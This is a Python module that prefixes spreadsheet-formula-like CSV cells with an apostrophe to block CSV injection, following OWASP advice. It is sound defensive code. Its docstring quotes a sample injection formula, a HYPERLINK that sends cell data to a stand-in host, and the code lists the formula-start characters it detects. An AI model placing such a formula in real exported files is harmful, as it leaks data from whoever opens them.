"""CSV cells that a spreadsheet will not run as formulas.

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a formula (and tab
or carriage return can hide such a start), so a record id such as `=HYPERLINK("http://x/?"&A1,"open")` in a
results CSV would run when a clinician opens the file. Following OWASP's advice ("CSV Injection"), a text cell
that starts with one of those characters is written with a `'` in front, which spreadsheets show as text and
do not keep in the value. Numbers are written as numbers (a negative score stays -2). docs/batch.md says so.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Any) -> Any:
    """`value` as a CSV cell: text that a spreadsheet would read as a formula gets a leading `'`."""
    if type(value) is str and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutral_row(row: list) -> list:
    return [neutral(v) for v in row]
